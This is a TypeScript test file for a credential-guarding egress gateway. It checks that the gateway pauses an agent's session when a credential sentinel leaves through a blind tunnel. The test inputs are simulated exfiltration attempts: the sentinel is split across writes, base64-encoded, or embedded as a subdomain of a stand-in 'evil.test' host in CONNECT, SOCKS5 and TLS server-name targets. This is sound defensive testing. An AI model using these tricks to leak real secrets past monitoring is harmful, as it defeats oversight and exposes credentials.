import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Lookup } from '../../src/action/egress.js';
import type {
  EventRecord,
  JournalRecord,
  OutcomeRecord,
  PauseJournalRecord,
} from '../../src/journal/records.js';
import type { TestGateway } from '../helpers/gateway.js';
import { gatewayPerTest } from '../helpers/gateway.js';
import { connectTunnel, exchange, roundTrip, startTcpServer } from '../helpers/raw.js';
import { SOCKS_LISTEN, socksTunnel } from '../helpers/socks.js';
import { handshakeThrough } from '../helpers/tls.js';
import { waitFor, waitForRecords } from '../helpers/wait.js';

/**
 * A credential's sentinel through a blind tunnel (neither intercepted nor read): in its
 * CONNECT target, its TLS server name or the bytes the agent sends up it pauses the session at
 * once, and nothing after the finding reaches the upstream. A blind tunnel to the credential's
 * own host is refused outright: its sentinel would leave unswapped.
 */
const SENTINEL = 'tgs_github_0123456789abcdef';
const VALUE = 'github-real-value-0123456789';

/** Echoes, and keeps what each connection received. */
const received: string[] = [];
const upstream = await startTcpServer((socket) => {
  const at = received.push('') - 1;
  socket.on('data', (d: Buffer) => {
    received[at] += d.toString('latin1');
    socket.write(d);
  });
});
const own = await startTcpServer((socket) => socket.resume());
const P = upstream.port;
const lookup: Lookup = async (host) => (host.endsWith('.test') ? ['127.0.0.1'] : []);

const { start, keep } = gatewayPerTest({
  network: {
    allow: [`127.0.0.1:${P}`, `127.0.0.1:${own.port}`, `*.test:${P}`],
    allowPrivate: ['127.0.0.1/32'],
  },
  credentials: [
    {
      name: 'github',
      value: VALUE,
      sentinel: SENTINEL,
      hosts: [`127.0.0.1:${own.port}`],
      header: 'Authorization',
      scheme: 'Bearer',
    },
  ],
  listen: { ...SOCKS_LISTEN },
});
const open = () => start({}, { lookup });

const events = (records: JournalRecord[]) =>
  records.filter((r): r is EventRecord => r.type === 'event');
const isExfiltration = (r: JournalRecord) => r.type === 'event' && r.exfiltration !== undefined;

/** The journal never holds the real value, whatever it recorded. */
const clean = (g: TestGateway) => expect(readFileSync(g.journalPath, 'utf8')).not.toContain(VALUE);

describe('a sentinel in the bytes sent up a blind tunnel', () => {
  it('split across two writes: paused at once, closed before its end is relayed', async () => {
    const g = await open();
    const before = received.length;
    const t = keep(await connectTunnel(g.gw.proxy.port, `127.0.0.1:${P}`));
    expect(t.status).toBe(200);
    const head = 'token=tgs_github_0123';
    // The first half goes through: the upstream echoes it, so it was relayed alone.
    const first = await roundTrip(t.socket, head, (got) => got === head);
    expect(first.got).toBe(head);
    const second = await roundTrip(t.socket, '456789abcdef&rest');
    expect(second.closed).toBe(true);
    const records = await waitForRecords(g, (r) => r.type === 'outcome', 2);
    const [connect, found] = events(records);
    expect(found).toMatchObject({
      target: `127.0.0.1:${P}`,
      verdict: 'PAUSE',
      boundary: 'credential-exfiltration',
      exfiltration: { credential: 'github', where: 'tunnel bytes' },
    });
    const pause = records.find((r): r is PauseJournalRecord => r.type === 'pause');
    expect(pause).toMatchObject({ boundary: 'credential-exfiltration', held: [] });
    expect(pause?.trigger.seq).toBe(found?.seq);
    const outcome = records.find(
      (r): r is OutcomeRecord => r.type === 'outcome' && r.rid === connect?.seq,
    );
    expect(outcome?.error).toMatch(/credential github's sentinel in tunnel bytes/);
    expect(outcome?.bytesUp).toBe(head.length);
    expect(received[before]).toBe(head);
    expect(g.gw.guard.session('127.0.0.1')?.pausedAt).not.toBeNull();
    clean(g);
  });

  it('base64-encoded in one write: found as such', async () => {
    const g = await open();
    const t = keep(await connectTunnel(g.gw.proxy.port, `127.0.0.1:${P}`));
    const encoded = Buffer.from(`user:${SENTINEL}`).toString('base64');
    expect((await roundTrip(t.socket, `Basic ${encoded}\r\n`)).closed).toBe(true);
    const records = await waitForRecords(g, isExfiltration);
    expect(events(records)[1]?.exfiltration).toEqual({
      credential: 'github',
      where: 'tunnel bytes (base64)',
    });
  });

  it('a tunnel without one stays open (control)', async () => {
    const g = await open();
    const t = keep(await connectTunnel(g.gw.proxy.port, `127.0.0.1:${P}`));
    for (const text of ['token=tgs_github_', 'not-the-sentinel', 'tgs_other_0123456789abcdef']) {
      const { got, closed } = await roundTrip(t.socket, text, (got) => got === text);
      expect([got, closed]).toEqual([text, false]);
    }
    expect(events(g.records())).toHaveLength(1);
    expect(g.records().some((r) => r.type === 'pause')).toBe(false);
  });
});

describe('a sentinel naming where a tunnel goes', () => {
  it('in the CONNECT target: refused, the session paused', async () => {
    const g = await open();
    const t = keep(await connectTunnel(g.gw.proxy.port, `${SENTINEL}.evil.test:${P}`));
    expect(t.status).toBe(403);
    const records = await waitForRecords(g, (r) => r.type === 'pause');
    expect(events(records)[0]).toMatchObject({
      verdict: 'PAUSE',
      exfiltration: { credential: 'github', where: 'CONNECT target' },
    });
    clean(g);
  });

  it('in the SOCKS5 target: refused the same way', async () => {
    const g = await open();
    const s = await socksTunnel(g.gw.socks!.port, `${SENTINEL}.evil.test`, P);
    s.socket.destroy();
    expect(s.reply).not.toBe(0);
    const records = await waitForRecords(g, (r) => r.type === 'pause');
    expect(events(records)[0]?.exfiltration).toEqual({
      credential: 'github',
      where: 'CONNECT target',
    });
  });

  it('in the TLS server name: refused with an alert, nothing relayed', async () => {
    const g = await open();
    const before = received.length;
    const done = await handshakeThrough(g.gw.proxy.port, `127.0.0.1:${P}`, {
      rejectUnauthorized: false,
      servername: `${SENTINEL}.evil.test`,
    });
    expect(done).toMatchObject({ ok: false, status: 200 });
    expect(done.ok ? '' : done.error).toMatch(/access denied/i);
    const records = await waitForRecords(g, (r) => r.type === 'outcome', 2);
    expect(events(records).map((e) => [e.verdict, e.exfiltration?.where])).toEqual([
      ['ALLOW', undefined],
      ['PAUSE', 'SNI'],
    ]);
    expect(received.slice(before).every((got) => got === '')).toBe(true);
  });
});

describe("a blind tunnel to a credential's own host", () => {
  it('is refused with the reason: the sentinel would leave as is', async () => {
    const g = await open();
    const authority = `127.0.0.1:${own.port}`;
    const answer = await exchange(g.gw.proxy.port, `CONNECT ${authority} HTTP/1.1\r\n\r\n`);
    expect([answer.status, answer.closed]).toEqual([403, true]);
    const reason = `credential github goes to ${authority} only through TLS trajgate terminates (add it to tls.intercept): its sentinel would leave as is`;
    expect(answer.body).toContain(reason);
    await waitFor(() => events(g.records()).length === 1);
    expect(events(g.records())[0]).toMatchObject({ verdict: 'REVIEW', denied: reason });
    expect(g.records().some((r) => r.type === 'pause')).toBe(false);
  });
});
